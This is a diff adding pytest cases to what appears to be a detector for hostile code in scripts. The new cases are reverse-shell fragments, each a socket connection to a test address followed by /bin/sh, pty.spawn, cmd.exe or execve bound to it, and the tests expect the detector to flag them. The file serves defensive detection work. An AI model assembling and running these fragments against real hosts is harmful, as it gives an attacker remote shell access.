@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
+
 import pytest
 from evals.repositories import honest_scripts
 from evals.repositories.hostile import STATEMENTS
@@ -34,6 +37,30 @@ def test_what_no_honest_script_does(name: str) -> None:
 @pytest.mark.parametrize("name", honest_scripts.TRAINING)
 def test_what_honest_scripts_do(name: str) -> None:
     assert findings_of(honest_scripts.TRAINING[name], "train.py") == []
+
+
+@pytest.mark.parametrize(
+    "shell",
+    [
+        'subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
+        "os.dup2(s.fileno(), 0); subprocess.call(program)",
+        'pty.spawn("/bin/bash")',
+        'subprocess.Popen("cmd.exe", stdin=subprocess.PIPE, stdout=subprocess.PIPE)',
+        'os.execve("/bin/bash", ["bash", "--norc"], os.environ)',
+    ],
+)
+def test_a_shell_for_whoever_is_connected_to(shell: str) -> None:
+    imports = "import os, pty, socket, subprocess"
+    connected = "s = socket.socket()\ns.connect(('192.0.2.1', 9))"
+    assert "reverse-shell" in rules_of(f"{imports}\n{connected}\n{shell}\n", "x.py")
+
+
+def test_what_two_scripts_of_one_archive_do_is_not_joined() -> None:
+    with io.BytesIO() as file:
+        with zipfile.ZipFile(file, "w") as archive:
+            archive.writestr("a.py", "import socket\nsocket.create_connection(('192.0.2.1', 9))\n")
+            archive.writestr("b.py", "import pty\npty.spawn('/bin/sh')\n")
+        assert rules_of(file.getvalue(), "x.zip") == set()
 
 
 @pytest.mark.parametrize("name", honest_scripts.SHELL)
